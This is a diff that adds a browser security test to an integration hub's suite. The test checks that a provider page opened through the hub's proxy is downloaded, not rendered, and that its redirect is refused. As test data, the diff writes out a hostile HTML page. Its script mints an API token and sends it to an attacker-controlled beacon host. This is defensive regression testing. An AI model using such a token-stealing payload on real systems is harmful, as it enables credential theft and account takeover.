@@ -13,6 +13,7 @@ or the demo plugin the tests skip with the reason.
 
 from __future__ import annotations
 
+import contextlib
 import re
 from collections.abc import Iterator
 from pathlib import Path
@@ -233,3 +234,92 @@ def test_connecting_works_in_the_same_window_when_popups_are_blocked(new_page, h
     expect(page).to_have_url(re.compile(r"/connections$"))
     expect(badge(page, "Carol's demo")).to_have_attribute("data-status", "connected")
     assert len(page.context.pages) == 1
+
+
+# -- a provider's page never runs in the hub's origin (SECURITY 28) -----------------------------
+
+
+def test_a_providers_page_opened_through_the_proxy_runs_nothing(new_page, hub):
+    """Mallory points an integration at her own server and shares it with the administrator;
+    her page's script would mint an API token for whoever opens it. The administrator's browser
+    opens the proxy URL: the page is downloaded, never rendered at the hub's address, no token
+    is made, nothing calls back; her redirect is not followed either."""
+    import requests
+
+    from .hostile import Upstream
+
+    upstream = Upstream()
+    try:
+        beacon = f"{upstream.base}/ran"
+        html = f"""<!doctype html><html><head><title>Quarterly report</title></head><body>
+<img src="{beacon}?img">
+<script>
+document.title = "script ran";
+new Image().src = "{beacon}?script";
+fetch("/api/tokens", {{method: "POST", headers: {{"Content-Type": "application/json"}},
+                       body: JSON.stringify({{name: "stolen"}})}})
+  .then((answer) => answer.json())
+  .then((made) => fetch("{beacon}?token=" + encodeURIComponent(made.token), {{mode: "no-cors"}}));
+</script></body></html>""".encode()
+        upstream.answer(
+            "report",
+            headers={
+                "Content-Type": "text/html; charset=utf-8",
+                "Content-Security-Policy": "default-src * 'unsafe-inline'",
+                "Access-Control-Allow-Origin": "*",
+                "Content-Disposition": "inline",
+            },
+            body=html,
+        )
+        upstream.answer("go", status=302, headers={"Location": f"{beacon}?redirect"})
+
+        hub.create_user("mallory")
+        mallory = requests.Session()
+        signed = mallory.post(
+            f"{hub.url}/api/login", json={"username": "mallory", "password": PASSWORD}
+        )
+        assert signed.status_code == 200, signed.text
+        created = mallory.post(
+            f"{hub.url}/api/integrations",
+            json={
+                "name": "Quarterly reports",
+                "authType": "bearer",
+                "apiBaseUri": upstream.base,
+                "connectionMode": "shared",
+            },
+        )
+        assert created.status_code == 201, created.text
+        ref = created.json()["id"]
+        credential = mallory.post(
+            f"{hub.url}/api/integrations/{ref}/connection", json={"token": "mallory-tok"}
+        )
+        assert credential.status_code == 200, credential.text
+        shared = mallory.put(
+            f"{hub.url}/api/integrations/{ref}/shares/{hub.admin_name}", json={"access": "use"}
+        )
+        assert shared.status_code == 200, shared.text
+
+        page = new_page()
+        sign_in(page, hub.admin_name, hub.admin_password)
+        tokens = f"{hub.url}/api/tokens"
+        before = page.request.get(tokens).json()["items"]
+        downloads: list[Any] = []
+        page.on("download", lambda download: downloads.append(download))
+
+        # A download ends the navigation with an error; a rendered page would not.
+        with contextlib.suppress(PlaywrightError):
+            page.goto(f"/api/integrations/{ref}/proxy/report")
+        page.wait_for_timeout(1500)  # time for a script, had one run, to act and call back
+        assert page.title() != "script ran"
+        assert page.request.get(tokens).json()["items"] == before  # no token was made
+        assert [seen["path"] for seen in upstream.seen] == ["/base/report"]  # no call back
+        assert len(downloads) == 1  # the page was saved as a file, not shown
+        assert Path(downloads[0].path()).read_bytes() == html
+
+        answer = page.goto(f"/api/integrations/{ref}/proxy/go")
+        assert answer is not None and answer.status == 502
+        assert page.url == f"{hub.url}/api/integrations/{ref}/proxy/go"  # not redirected
+        assert "upstream_redirect" in page.content()
+        assert [seen["path"] for seen in upstream.seen] == ["/base/report", "/base/go"]
+    finally:
+        upstream.stop()
